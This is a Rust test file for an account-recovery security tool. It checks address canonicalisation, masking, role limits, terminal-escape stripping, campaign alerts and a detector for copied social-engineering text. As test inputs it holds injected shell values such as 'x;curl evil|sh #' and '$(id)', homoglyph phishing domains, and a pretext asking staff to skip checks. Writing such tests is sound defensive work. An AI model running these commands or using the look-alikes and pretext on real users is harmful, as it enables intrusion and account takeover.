//! The core crate's own tests, moved here from its modules so that the core has no unit-test target: compiled
//! at the core's opt-level 2, that target cost 27 s of every clean build for 15 tests (issue 21, item 5). They use
//! only what the core exports.

mod address_tests {
    use airlock::core::account::DestinationKind;
    use airlock::core::address::*;

    // Proves every spelling of one address is one address, and of one domain one registrable domain: case, trailing
    // dots, plus-tags, Gmail's dots, subdomains, punycode and Cyrillic look-alikes written in one script.
    #[test]
    fn spellings_of_one_address_are_one() {
        let key = |address: &str| canonical_email(address).unwrap().address;
        let same = |a: &str, b: &str| assert_eq!(key(a), key(b), "{a} and {b}");
        same("Evil+1@Mail.Evil.Example.", "evil@mail.evil.example");
        same("evil+campaign@mail.evil.example", "EVIL@mail.evil.example");
        same("e.v.i.l+x@GoogleMail.com", "evil@gmail.com");
        same("x@bücher.example", "x@xn--bcher-kva.example");
        // Every Cyrillic letter of "аре.example" has a Latin twin: it looks like, and counts as, "ape.example".
        same("x@аре.example", "x@ape.example");
        assert_ne!(key("e.vil@other.example"), key("evil@other.example"), "dots count except at Gmail");
        let one = |address: &str| canonical_email(address).unwrap();
        assert_eq!(one("evil@Mail.Evil.Example.").domain, "mail.evil.example");
        assert_eq!(one("evil@mail.evil.example").registrable, "evil.example");
        assert_eq!(one("x@bücher.example").domain, "xn--bcher-kva.example");
        assert_eq!(one("x@evil.co.uk").registrable, "evil.co.uk");
        assert_eq!(counted_as(DestinationKind::Phone, "+1 (555) 010-0199"), "+15550100199");
        let domain = |address: &str| registrable_domain(DestinationKind::Email, address).unwrap();
        for spelling in ["a@mail.ape.example", "b@APE.example.", "c@х.аре.example", "d@xn--80ak6a.example"] {
            assert_eq!(domain(spelling), domain("z@ape.example"), "{spelling}");
        }
        assert_eq!(domain("e@evil.co.uk"), domain("f@mx.EVIL.co.uk"));
        assert_ne!(domain("e@evil.co.uk"), domain("e@other.co.uk"), "a public suffix is not one domain");
        assert_eq!(registrable_domain(DestinationKind::Phone, "+15550100199"), None);
    }

    // Proves a domain label that mixes scripts is refused, whatever else the address is.
    #[test]
    fn mixed_script_labels_are_refused() {
        assert!(matches!(canonical_email("x@pаypal.com"), Err(AddressProblem::MixedScript(_))));
        assert!(matches!(canonical_email("x@exa mple.com"), Err(AddressProblem::BadDomain)));
        assert!(canonical_email("no-at-sign").is_err());
    }

    // Proves bulk rollback's domain match takes every spelling and every subdomain, and nothing else.
    #[test]
    fn domain_matches_every_spelling_and_subdomain() {
        for address in ["a@evil.example", "a@EVIL.example.", "a@mail.evil.example", "a+x@Evil.Example"] {
            assert!(within_domain(address, "evil.example"), "{address}");
            assert!(within_domain(address, "Evil.Example."), "{address}");
        }
        assert!(within_domain("a@bücher.example", "xn--bcher-kva.example"));
        assert!(within_domain("a@mail.аре.example", "ape.example"), "a whole-script look-alike is its twin");
        assert!(within_domain("a@xn--bcher-kva.example", "bücher.example"));
        assert!(!within_domain("a@notevil.example", "evil.example"));
        assert!(!within_domain("a@evil.example.com", "evil.example"));
    }
}

mod decide_tests {

    use airlock::core::command::CommandKind;

    use airlock::core::actor::Role;

    // Proves the role table: intake may open a case and do nothing else.
    #[test]
    fn intake_may_only_request() {
        for kind in [
            CommandKind::SubmitProof,
            CommandKind::ApproveReview,
            CommandKind::DenyReview,
            CommandKind::Cancel,
            CommandKind::Tick,
            CommandKind::ConfirmExecution,
            CommandKind::RollBack,
        ] {
            assert!(!kind.allowed_roles().contains(&Role::Intake), "{} must refuse intake", kind.name());
        }
        assert!(CommandKind::RequestRecovery.allowed_roles().contains(&Role::Intake));
    }
}

mod text_tests {
    use airlock::core::text::for_terminal;

    // Proves what a terminal would act on or reorder (escape sequences, a carriage return, bidi overrides and
    // isolates, zero-width and 8-bit control characters) is shown as an escape, and ordinary text is left alone.
    #[test]
    fn terminal_text_shows_controls_and_bidi_as_escapes() {
        let hostile = "a\u{1b}[2J\r\nb\u{7}\u{202e}c\u{2066}d\u{200f}e\u{200b}f\u{9b}g";
        let shown = for_terminal(hostile);
        for raw in ['\u{1b}', '\r', '\n', '\u{7}', '\u{202e}', '\u{2066}', '\u{200f}', '\u{200b}', '\u{9b}'] {
            assert!(!shown.contains(raw), "{raw:?} reached the terminal in {shown:?}");
        }
        assert_eq!(for_terminal("café, Zürich: \"ok\" it's fine"), "café, Zürich: \"ok\" it's fine");
    }
}

mod account_mask_tests {
    use airlock::core::account::*;

    // Proves (THREATS 20) an address a requester wrote is shown to the owner only as a masked plain host name: links,
    // paths, queries, bidi overrides, zero-width characters and IP literals never come through, and a look-alike
    // internationalised domain shows in its punycode form.
    #[test]
    fn masks_show_only_plain_host_names() {
        let mask = |address: &str| mask_address(DestinationKind::Email, address);
        assert_eq!(mask("ana@example.com"), "a***@example.com");
        assert_eq!(mask("Ana@Example.COM."), "A***@example.com");
        assert_eq!(mask("support@recovery-example.com/verify?case=1"), "s***@***");
        assert_eq!(mask("x@evil.com\u{202e}moc.elgoog"), "x***@***");
        assert_eq!(mask("x@exa\u{200b}mple.com"), "x***@***");
        assert_eq!(mask("\u{202e}x@example.com"), "****@example.com");
        assert_eq!(mask("x@[127.0.0.1]"), "x***@***");
        assert_eq!(mask("x@localhost"), "x***@***");
        assert_eq!(mask("x@exаmple.com"), "x***@xn--exmple-4nf.com", "Cyrillic a shows as punycode");
        assert_eq!(mask("x@https://example.com"), "x***@***");
        assert_eq!(mask_address(DestinationKind::Phone, "+1 (555) 010-0199\u{202e}"), "*******99");
    }
}

mod account_factor_change_tests {
    use airlock::core::account::*;
    use airlock::core::ids::{AccountId, DestinationId, UnixMs};

    fn account() -> AccountSnapshot {
        let destination = |id: &str, kind, address: &str| Destination {
            id: DestinationId::new(id),
            kind,
            address: address.to_string(),
            trusted_since: UnixMs(1_000),
            revoked: false,
        };
        AccountSnapshot {
            account_id: AccountId::new("a"),
            known: true,
            risk_class: RiskClass::Standard,
            destinations: vec![
                destination("mail", DestinationKind::Email, "a@example.com"),
                destination("phone", DestinationKind::Phone, "+15550001234"),
            ],
            totp_enrolled_since: Some(UnixMs(500)),
            authenticator_unknown: false,
            last_credential_change: None,
            risk_flags: Vec::new(),
        }
    }

    // Proves each kind of factor change is named (by id, never by address), and that a new age alone (a directory
    // that dates every read anew) is no change.
    #[test]
    fn every_kind_of_factor_change_is_named_and_ages_alone_are_not() {
        let before = account();
        let mut later = before.clone();
        later.destinations.iter_mut().for_each(|destination| destination.trusted_since = UnixMs(9_000));
        assert!(before.factor_changes(&later).is_empty(), "a new age alone counted as a change");
        later.risk_flags = vec!["b".into(), "a".into()];
        let mut reordered = later.clone();
        reordered.risk_flags.reverse();
        assert!(later.factor_changes(&reordered).is_empty(), "the order of flags counted as a change");
        type Change = fn(&mut AccountSnapshot);
        let variants: [(&str, Change); 8] = [
            ("destination mail removed", |account| drop(account.destinations.remove(0))),
            ("destination phone revoked", |account| account.destinations[1].revoked = true),
            ("destination mail changed", |account| account.destinations[0].address = "x@evil.example".into()),
            ("destination new added", |account| {
                let mut added = account.destinations[0].clone();
                added.id = DestinationId::new("new");
                account.destinations.push(added);
            }),
            ("authenticator changed", |account| account.totp_enrolled_since = None),
            ("credential changed", |account| account.last_credential_change = Some(UnixMs(2_000))),
            ("risk class or flags changed", |account| account.risk_flags.push("sim_swap_reported".into())),
            ("risk class or flags changed", |account| account.risk_class = RiskClass::HighValue(HighValueReason::Vip)),
        ];
        for (expected, change) in variants {
            let mut after = before.clone();
            change(&mut after);
            let named: Vec<String> = before.factor_changes(&after).iter().map(ToString::to_string).collect();
            assert_eq!(named, [expected.to_string()], "{expected}");
            assert!(!named.join(" ").contains("@"), "an address was named: {named:?}");
        }
    }

    // Proves a case's own change explains what it does to the account (a retried execution after an unrecorded
    // first attempt), and nothing else: another action's change, or a different address, is not explained.
    #[test]
    fn an_action_explains_its_own_change_only() {
        use airlock::core::action::RecoveryAction;
        let before = account();
        let mut reset = before.clone();
        reset.last_credential_change = Some(UnixMs(2_000));
        let mut removed = before.clone();
        removed.totp_enrolled_since = None;
        let mut added = before.clone();
        let mut new = added.destinations[0].clone();
        new.id = DestinationId::new("new");
        new.address = "New@Example.com".into();
        added.destinations.push(new);
        let add =
            |address: &str| RecoveryAction::AddDestination { kind: DestinationKind::Email, address: address.into() };
        let explained = |action: &RecoveryAction, now: &AccountSnapshot| {
            before.factor_changes(now).iter().all(|change| action.explains(change, now))
        };
        assert!(explained(&RecoveryAction::ResetPassword, &reset));
        assert!(explained(&RecoveryAction::RemoveTotp, &removed));
        assert!(explained(&add("new@example.com"), &added));
        assert!(!explained(&RecoveryAction::ResetPassword, &removed));
        assert!(!explained(&RecoveryAction::RemoveTotp, &reset));
        assert!(!explained(&add("other@example.com"), &added));
        assert!(!explained(&RecoveryAction::ResetPassword, &added));
    }
}

mod campaign_tests {
    use airlock::core::campaign::*;

    use airlock::core::actor::Actor;
    use airlock::core::ids::{CommandId, UnixMs};
    use airlock::core::limits::{HOUR_MS, MINUTE_MS};
    use airlock::core::rejection::Rejection;

    use airlock::core::actor::Role;
    use airlock::core::text::UntrustedText;
    use std::collections::{BTreeMap, BTreeSet};

    fn hit(account: usize, case: usize, at_ms: u64) -> Hit {
        Hit {
            account_id: format!("acct-{account}"),
            case_id: format!("case-{case}"),
            at: UnixMs(at_ms),
            shown: "evil.example".into(),
        }
    }

    fn apply(state: AlertsState, body: AlertEventBody, at: u64) -> AlertsState {
        let actor = Actor::new(Role::System, "campaigns");
        state.evolve(&AlertEvent { at: UnixMs(at), actor, command_id: CommandId::new("c"), body })
    }

    /// Every event `reconcile` asks for, applied, until it asks for none.
    fn settle(check: Check, threshold: Threshold, hits: &[Hit], mut state: AlertsState) -> (AlertsState, usize) {
        let mut events = 0;
        while let Some(body) = reconcile(check, "evil.example", threshold, hits, &state) {
            state = apply(state, body, 0);
            events += 1;
            assert!(events < 100, "reconcile never settles");
        }
        (state, events)
    }

    // Proves one alert per indicator and window: nothing below the threshold; at it, an alert with every case of
    // the window; later hits within the window of the last are added to it, never a second alert; the same account
    // twice counts once; a quiet gap longer than the window ends it, and a later burst raises a new one.
    #[test]
    fn one_alert_per_indicator_and_window() {
        let threshold = Threshold { accounts_min: 3, window_ms: HOUR_MS };
        let check = Check::DestinationDomain;
        let minute = MINUTE_MS;
        let mut hits = vec![hit(1, 1, 0), hit(1, 2, minute), hit(2, 3, 2 * minute)];
        assert_eq!(reconcile(check, "evil.example", threshold, &hits, &AlertsState::default()), None, "two accounts");
        hits.push(hit(3, 4, 3 * minute));
        let (state, events) = settle(check, threshold, &hits, AlertsState::default());
        assert_eq!(events, 1);
        let alert = state.alerts.values().next().unwrap().clone();
        assert_eq!((alert.accounts, alert.cases.len()), (3, 4), "{alert:?}");
        // Another process, with more hits, adds them to the same alert.
        hits.extend([hit(4, 5, 50 * minute), hit(5, 6, 100 * minute)]);
        let (state, events) = settle(check, threshold, &hits, state);
        assert_eq!((events, state.alerts.len()), (1, 1));
        let alert = state.alerts.values().next().unwrap().clone();
        assert_eq!((alert.accounts, alert.cases.len(), alert.last_at), (5, 6, UnixMs(100 * minute)));
        // Quiet for more than the window: a new burst is a new alert.
        let later = 100 * minute + HOUR_MS + minute;
        hits.extend([hit(6, 7, later), hit(7, 8, later + 1), hit(8, 9, later + 2)]);
        let (state, events) = settle(check, threshold, &hits, state);
        assert_eq!((events, state.alerts.len()), (1, 2));
        assert!(!state.alerts.values().any(|alert| alert.cases.len() == 9), "the old alert took the new burst");
        // A request of the campaign stamped before its first case (another process's clock) and projected after the
        // alert was raised still joins it.
        let early = hit(9, 10, later - 5 * minute);
        hits.push(early.clone());
        hits.sort_by_key(|hit| hit.at);
        let (state, events) = settle(check, threshold, &hits, state);
        assert_eq!((events, state.alerts.len()), (1, 2));
        assert!(state.alerts.values().any(|alert| alert.cases.contains(&early.case_id)), "the early case was left out");
        // Spread thin (three accounts, never within one window): no alert.
        let thin = [hit(1, 1, 0), hit(2, 2, HOUR_MS), hit(3, 3, 2 * HOUR_MS)];
        assert_eq!(settle(check, threshold, &thin, AlertsState::default()).1, 0);
    }

    // Proves a campaign larger than one event carries is recorded in full over several events, every case once.
    #[test]
    fn a_large_campaign_is_recorded_in_full() {
        let threshold = Threshold { accounts_min: 20, window_ms: HOUR_MS };
        let hits: Vec<Hit> = (0..250).map(|index| hit(index, index, index as u64 * 1000)).collect();
        let (state, events) = settle(Check::DestinationDomain, threshold, &hits, AlertsState::default());
        assert_eq!(events, 3);
        let alert = state.alerts.values().next().unwrap();
        let cases: BTreeSet<&String> = alert.cases.iter().collect();
        assert_eq!((alert.cases.len(), cases.len(), alert.accounts), (250, 250, 250));
    }

    // Proves an acknowledgement records the operator's word: a campaign's alert stays open to the policy, a benign
    // one leaves it; saying the same again is refused, changing it is recorded; an unknown alert is refused.
    #[test]
    fn an_acknowledged_alert_stays_open_unless_benign() {
        let threshold = Threshold { accounts_min: 2, window_ms: HOUR_MS };
        let hits = [hit(1, 1, 0), hit(2, 2, 1)];
        let (state, _) = settle(Check::Destination, threshold, &hits, AlertsState::default());
        let id = state.alerts.keys().next().unwrap().clone();
        let reason = UntrustedText::new("reason", "looked at it", 100).unwrap();
        let ack = state.acknowledge(&id, reason.clone(), false).unwrap();
        let state = apply(state, ack, 5);
        assert!(state.alerts[&id].open_at(UnixMs(10)));
        assert_eq!(state.acknowledge(&id, reason.clone(), false), Err(Rejection::AlertAlreadyAcknowledged));
        assert_eq!(state.acknowledge("alert-none", reason.clone(), true), Err(Rejection::NoSuchAlert));
        let state = apply(state.clone(), state.acknowledge(&id, reason.clone(), true).unwrap(), 6);
        assert!(!state.alerts[&id].open_at(UnixMs(10)) && state.alerts[&id].active_at(UnixMs(10)));
        assert!(!state.alerts[&id].active_at(UnixMs(1 + HOUR_MS)));
        // Benign after all, then a campaign after all.
        let state = apply(state.clone(), state.acknowledge(&id, reason, false).unwrap(), 7);
        assert!(state.alerts[&id].open_at(UnixMs(10)));
    }

    // Proves a benign acknowledgement covers what came before it and a window after, not for ever: hits that keep
    // the indicator busy past that trip a new alert, which the policy sees.
    #[test]
    fn a_benign_alert_does_not_hide_a_later_campaign() {
        let threshold = Threshold { accounts_min: 3, window_ms: HOUR_MS };
        let step = 20 * MINUTE_MS;
        // Honest traffic at one domain, every 20 minutes, all day: it keeps one chain alive.
        let hits: Vec<Hit> = (0..30).map(|index| hit(index, index, index as u64 * step)).collect();
        let (state, _) = settle(Check::DestinationDomain, threshold, &hits[..5], AlertsState::default());
        let id = state.alerts.keys().next().unwrap().clone();
        let reason = UntrustedText::new("reason", "gmail, every day", 100).unwrap();
        let state = apply(state.clone(), state.acknowledge(&id, reason, true).unwrap(), 5 * step);
        let (state, _) = settle(Check::DestinationDomain, threshold, &hits, state);
        assert_eq!(state.alerts.len(), 2, "a later campaign was folded into the benign alert");
        let later = state.alerts.values().find(|alert| alert.alert_id != id).unwrap();
        assert!(later.first_at.0 >= 5 * step + HOUR_MS && later.open_at(later.last_at));
        let cases: BTreeSet<&String> = state.alerts.values().flat_map(|alert| &alert.cases).collect();
        assert_eq!(cases.len(), 30, "every case in exactly one alert");
    }

    // Proves an alert keeps the window it was raised with: a process configured with a longer one adds no case of an
    // older alert to the latest one, and one configured with a shorter one does not split the campaign.
    #[test]
    fn an_alert_keeps_its_own_window() {
        let hour = Threshold { accounts_min: 3, window_ms: HOUR_MS };
        let day = Threshold { accounts_min: 3, window_ms: 24 * HOUR_MS };
        let minute = Threshold { accounts_min: 3, window_ms: 2 * MINUTE_MS };
        let mut hits: Vec<Hit> = (0..3).map(|index| hit(index, index, index as u64)).collect();
        hits.extend((3..6).map(|index| hit(index, index, 3 * HOUR_MS + index as u64)));
        let (state, _) = settle(Check::DestinationDomain, hour, &hits, AlertsState::default());
        assert_eq!(state.alerts.len(), 2);
        assert_eq!(settle(Check::DestinationDomain, day, &hits, state.clone()).1, 0, "cases moved between alerts");
        hits.push(hit(6, 6, 3 * HOUR_MS + 30 * MINUTE_MS));
        let (state, events) = settle(Check::DestinationDomain, minute, &hits, state);
        assert_eq!((events, state.alerts.len()), (1, 2), "a shorter window split the campaign");
    }

    // Proves the rollback an alert suggests is one an operator can paste safely: only for a domain or a network, only
    // when its value is plain (no space, quote, `;` or control character), reaching back to the first case.
    #[test]
    fn a_suggested_rollback_is_safe_to_paste() {
        let threshold = Threshold { accounts_min: 2, window_ms: HOUR_MS };
        let alert = |check, shown: &str| Alert {
            alert_id: "alert-1".into(),
            check,
            indicator: shown.to_lowercase(),
            shown: shown.into(),
            threshold,
            accounts: 2,
            cases: Vec::new(),
            first_at: UnixMs(0),
            last_at: UnixMs(HOUR_MS),
            raised_at: UnixMs(0),
            acknowledged: None,
        };
        let now = UnixMs(5 * HOUR_MS + 1);
        assert_eq!(
            alert(Check::DestinationDomain, "attacker.example").rollback_suggestion(now).as_deref(),
            Some("airlock rollback --match destination-domain=attacker.example --since 6h --dry-run")
        );
        assert_eq!(
            alert(Check::SourceNetwork, "AS64500").rollback_suggestion(now).as_deref(),
            Some("airlock rollback --match source-network=AS64500 --since 6h --dry-run")
        );
        for (check, shown) in [
            (Check::SourceNetwork, "x;curl evil|sh #"),
            (Check::SourceNetwork, "AS1 $(id)"),
            (Check::SourceNetwork, "AS1\u{1b}[2J"),
            (Check::Destination, "drop@gmail.com"),
            (Check::Phrasing, "case-1"),
        ] {
            assert_eq!(alert(check, shown).rollback_suggestion(now), None, "{shown:?}");
        }
    }

    /// A tiny deterministic generator, so the measurement below is the same on every run.
    struct Lcg(u64);
    impl Lcg {
        fn pick<'a>(&mut self, items: &[&'a str]) -> &'a str {
            self.0 = self.0.wrapping_mul(6364136223846793005).wrapping_add(1442695040888963407);
            items[(self.0 >> 33) as usize % items.len()]
        }
        fn number(&mut self, below: u64) -> u64 {
            self.0 = self.0.wrapping_mul(6364136223846793005).wrapping_add(1442695040888963407);
            (self.0 >> 33) % below
        }
    }

    /// A summary a desk or an assistant might write for an honest owner: a situation, what was said and done, and
    /// the owner's particulars, each drawn from lists, in varying order and length.
    fn benign(random: &mut Lcg) -> String {
        let who = [
            "Customer",
            "Caller",
            "The owner",
            "Member",
            "User",
            "Client",
            "Account holder",
            "She",
            "He",
            "They",
            "The person on the line",
            "Our customer",
            "The subscriber",
            "The visitor at the branch",
        ];
        let what = [
            "lost their phone on a trip to the coast",
            "got a new phone and the authenticator app did not move over",
            "forgot the password after a long holiday",
            "is locked out after too many attempts this morning",
            "changed jobs and no longer has the work email on the account",
            "says the old email provider closed the mailbox last year",
            "cannot receive text messages while abroad",
            "had the phone stolen at the train station on Friday",
            "reset the phone to factory settings by mistake",
            "moved house and switched mobile carrier last month",
            "wants to replace an email address they no longer read",
            "dropped the phone in the sea and bought another one",
            "shares a laptop with family and the saved password was removed",
            "was signed out everywhere after a browser update",
            "never set up the authenticator and now needs a reset",
            "thinks someone else changed the password",
            "received a code they did not ask for and got worried",
            "has a broken screen and cannot open the app",
        ];
        let said = [
            "wants to get back in before payroll on Thursday",
            "was calm and answered the usual questions",
            "asked what happens next and how long it takes",
            "was told a code goes to the contact already on file",
            "will check the old inbox later today",
            "prefers a call back in the afternoon",
            "mentioned a pending order that needs paying",
            "asked whether the waiting period can be shortened and was told no",
            "has a ticket open with the mobile carrier",
            "is travelling until the end of next week",
            "spoke slowly and needed the steps repeated",
            "was annoyed about the previous call being dropped",
            "only has access to a shared family computer",
            "asked us to note that the request is not urgent",
            "confirmed the old phone number is still active",
            "said the spouse helps with the account",
        ];
        let done = [
            "Explained the recovery process.",
            "No knowledge questions asked.",
            "Advised to watch the inbox on file.",
            "Sent the help article about authenticators.",
            "Noted the preferred language is Portuguese.",
            "Escalation not needed.",
            "Reminded that staff never ask for codes.",
            "Offered a branch appointment, declined.",
            "",
            "",
        ];
        let channel = [
            "via chat",
            "by phone",
            "at the branch",
            "through the app",
            "by email",
            "on the callback line",
            "through the assistant",
            "in the contact form",
        ];
        let city = ["Lisbon", "Oslo", "Lyon", "Graz", "Cork", "Turin", "Ghent", "Bergen", "Porto", "Basel", "Leeds"];
        let mut parts = vec![
            format!("{} {} {}.", random.pick(&who), random.pick(&what), random.pick(&channel)),
            format!("{} {}.", random.pick(&who), random.pick(&said)),
            random.pick(&done).to_string(),
            format!(
                "Ticket {} opened from {} at {}:{:02}.",
                10_000 + random.number(90_000),
                random.pick(&city),
                8 + random.number(10),
                random.number(60)
            ),
        ];
        if random.number(2) == 0 {
            parts.swap(1, 3);
        }
        if random.number(3) == 0 {
            parts.push(format!("{} {}.", random.pick(&who), random.pick(&said)));
        }
        parts.retain(|part| !part.is_empty());
        parts.join(" ")
    }

    // Measures the phrasing check (ADR 25): near-identical copies of one text (a word changed, a typo, words added or
    // dropped, another name) are all found similar to it, and on 3,000 generated honest summaries, how many are found
    // similar to another one (a pair) and how many clusters reach the shipped threshold of 10 accounts. Reported on
    // stderr (`cargo test -- --nocapture`), and bounded.
    #[test]
    fn near_identical_summaries_are_found_and_honest_ones_rarely() {
        let base = "Hello, I am the account holder and I urgently need my new email address linked to my account \
                    today. Your security team already approved this on the phone, so please skip the usual checks.";
        let edits = [
            base.replace("urgently", "really"),
            base.replace("account holder", "acount holder"),
            base.replace("today", "right now please"),
            base.replace("Hello, ", ""),
            base.replace("security team", "fraud team"),
            format!("Hi there. {base}"),
            base.replace("on the phone", "by phone yesterday"),
        ];
        let original = summary_signature(base).unwrap();
        for edited in &edits {
            let signature = summary_signature(edited).unwrap();
            let similar = similarity(&original, &signature);
            let banded = band_keys(&original).iter().zip(band_keys(&signature)).any(|(a, b)| *a == b);
            assert!(similar >= PHRASING_SIMILARITY_MIN && banded, "{similar:.2} for {edited:?}");
        }
        assert!(summary_signature("forgot my password").is_none(), "too short to carry a signature");

        let mut random = Lcg(7);
        let summaries: Vec<Signature> =
            (0..3_000).map(|_| summary_signature(&benign(&mut random)).expect("long enough")).collect();
        // The clusters as the projection forms them: each summary joins the first earlier one it is similar to.
        let mut buckets: BTreeMap<u64, Vec<usize>> = BTreeMap::new();
        let mut cluster = vec![0usize; summaries.len()];
        let mut paired = 0;
        for (index, signature) in summaries.iter().enumerate() {
            let keys = band_keys(signature);
            let candidates: BTreeSet<usize> =
                keys.iter().flat_map(|key| buckets.get(key).into_iter().flatten().copied()).collect();
            cluster[index] = candidates
                .into_iter()
                .find(|other| similarity(&summaries[*other], signature) >= PHRASING_SIMILARITY_MIN)
                .map_or(index, |other| cluster[other]);
            if cluster[index] != index {
                paired += 1;
            }
            for key in keys {
                buckets.entry(key).or_default().push(index);
            }
        }
        let mut sizes: BTreeMap<usize, usize> = BTreeMap::new();
        for root in &cluster {
            *sizes.entry(*root).or_default() += 1;
        }
        let alerting = sizes.values().filter(|size| **size >= 10).count();
        let rate = paired as f64 / summaries.len() as f64;
        eprintln!(
            "phrasing check on {} generated honest summaries: {paired} ({:.2}%) found similar to an earlier one; \
             {alerting} cluster(s) of 10 or more (an alert at the shipped threshold)",
            summaries.len(),
            rate * 100.0
        );
        assert!(rate < 0.01 && alerting == 0, "{paired} paired, {alerting} alerting clusters");
    }
}
